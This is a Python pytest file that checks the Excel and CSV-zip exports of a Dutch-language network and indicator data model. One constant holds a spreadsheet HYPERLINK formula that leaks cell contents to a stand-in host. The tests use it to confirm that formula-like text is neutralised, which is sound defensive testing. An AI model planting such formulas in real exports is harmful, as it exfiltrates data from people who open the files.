"""The Excel workbook and the CSV zip, read back with openpyxl and Python's csv module."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest

from db import Store
from db.errors import OutputRefusedError
from db.table_files import csv_zip_bytes, write_network_tables
from db.tables import network_tables
from tests.db.builders import fill_network

HOSTILE = '=HYPERLINK("http://example.invalid/?leak="&A1,"klik")'

SHEETS_NL = [
    "Lees mij",
    "Netwerk",
    "Kern",
    "Redeneerlijnen",
    "Stappen",
    "Indicatoren",
    "Metingen",
    "Doelen",
    "Leerpad",
    "Geeltjes",
]


@pytest.fixture
def network(store: Store) -> int:
    return fill_network(store, texts=HOSTILE)


def test_the_workbook_has_a_read_me_and_a_sheet_per_table_with_frozen_headers(
    store: Store, network: int, tmp_path: Path
) -> None:
    path = write_network_tables(
        tmp_path / "net.xlsx", store.networks.load_network(network), store.model, "xlsx", "nl"
    )
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == SHEETS_NL
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2", sheet.title
    lines = book["Redeneerlijnen"]
    assert [cell.value for cell in lines[1]][:4] == [
        "Lijn-id",
        "Redeneerlijn",
        "Richting",
        "Status",
    ]
    assert lines.max_row == 1 + 2  # two lines
    assert book["Stappen"].max_row == 1 + 2 * 5  # five steps each
    assert book["Indicatoren"].max_row == 1 + 3
    assert book["Geeltjes"].max_row == 1 + 2
    widths = [book["Stappen"].column_dimensions[c].width for c in "ABCDEFG"]
    assert all(4 < width <= 62 for width in widths)


def test_measurements_are_numbers_and_dates_one_row_per_entry(
    store: Store, network: int, tmp_path: Path
) -> None:
    path = write_network_tables(
        tmp_path / "net.xlsx", store.networks.load_network(network), store.model, "xlsx", "en"
    )
    sheet = openpyxl.load_workbook(path)["Measurements"]
    header = [cell.value for cell in sheet[1]]
    assert header[:6] == ["Indicator id", "Indicator", "Reasoning line", "Moment", "Date", "Value"]
    rows = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)]
    assert len(rows) == 3
    first = rows[0]
    assert first[3] == "A"
    assert isinstance(first[4], datetime) and first[4].date() == date(2024, 3, 1)
    assert first[5] == 12.5 and isinstance(first[5], float)
    assert rows[1][4] is None  # moment B has no date
    assert rows[2][5] is None and HOSTILE in rows[2][7]


def test_hostile_text_stays_text_in_every_sheet(store: Store, network: int, tmp_path: Path) -> None:
    store.lines.add_core_entry(network, "core.part1", HOSTILE)
    path = write_network_tables(
        tmp_path / "net.xlsx", store.networks.load_network(network), store.model, "xlsx", "nl"
    )
    book = openpyxl.load_workbook(path)
    cell = next(
        cell for row in book["Kern"].iter_rows(min_row=2) for cell in row if cell.value == HOSTILE
    )
    assert cell.data_type == "s"
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for found in row:
                assert found.data_type != "f", (sheet.title, found.coordinate, found.value)


def test_indicator_sheet_holds_the_six_steps_with_typed_checks(
    store: Store, network: int, tmp_path: Path
) -> None:
    path = write_network_tables(
        tmp_path / "net.xlsx", store.networks.load_network(network), store.model, "xlsx", "nl"
    )
    sheet = openpyxl.load_workbook(path)["Indicatoren"]
    header = [cell.value for cell in sheet[1]]
    for expected in ("1. Inzicht", "2. Bron", "3. Valide", "4. Eigenaar", "5. Doel", "6. Publiek"):
        assert expected in header
    row = [cell.value for cell in sheet[2]]
    assert row[header.index("3. Valide")] is True
    assert row[header.index("3. Relevant")] is None
    assert row[header.index("2. Bron of nieuw")] == "bestaande bron"
    targets = openpyxl.load_workbook(path)["Doelen"]
    # baseline and target as texts; the baseline as a value and its date (none here) last
    assert [c.value for c in targets[2]][-4:] == ["10", "40", None, None]


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_the_csv_zip_reads_back_in_either_separator(
    store: Store, network: int, delimiter: str
) -> None:
    contents = store.networks.load_network(network)
    tables = network_tables(contents, store.model, "nl")
    data = csv_zip_bytes(tables, "nl", delimiter)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        names = archive.namelist()
        assert names[0] == "00 Lees mij.csv" and len(names) == len(tables) + 1
        raw = archive.read("06 Metingen.csv")
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=delimiter))
    assert rows[0][:6] == ["Indicator-id", "Indicator", "Redeneerlijn", "Moment", "Datum", "Waarde"]
    assert len(rows) == 1 + 3
    assert rows[1][4] == "2024-03-01"
    assert rows[1][5] == ("12,5" if delimiter == ";" else "12.5")
    assert rows[3][7] == "„Het werkt” " + HOSTILE  # not at the start: untouched
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        core = archive.read("02 Kern.csv").decode("utf-8-sig")
    for row in csv.reader(io.StringIO(core, newline=""), delimiter=delimiter):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@")), cell


def test_a_cell_starting_like_a_formula_gets_an_apostrophe_in_csv(store: Store) -> None:
    network = store.networks.create_network("Kort")
    for text in (HOSTILE, "+31 71 123", "-5 graden", "@iedereen", "gewoon"):
        store.lines.add_core_entry(network.id, "core.part0", text)
    tables = network_tables(store.networks.load_network(network.id), store.model, "en")
    data = csv_zip_bytes(tables, "en", ",")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        text = archive.read("02 Core.csv").decode("utf-8-sig")
    cells = [row[2] for row in csv.reader(io.StringIO(text, newline=""))][1:]
    assert cells == ["'" + HOSTILE, "'+31 71 123", "'-5 graden", "'@iedereen", "gewoon"]


@pytest.mark.file_only
def test_exports_never_land_on_the_store(store: Store, network: int) -> None:
    contents = store.networks.load_network(network)
    with pytest.raises(OutputRefusedError):
        write_network_tables(store.path, contents, store.model, "xlsx")
    with pytest.raises(OutputRefusedError):
        write_network_tables(f"{store.path}-wal", contents, store.model, "csv")


def test_an_empty_network_gives_every_sheet_with_its_header_only(store: Store, tmp_path) -> None:
    network = store.networks.create_network("Leeg")
    path = write_network_tables(
        tmp_path / "leeg.xlsx", store.networks.load_network(network.id), store.model, "xlsx", "nl"
    )
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == SHEETS_NL
    assert book["Kern"].max_row == 1 and book["Metingen"].max_row == 1
    assert book["Netwerk"].max_row == 1 + len(store.model.stakeholder_ring.segments)
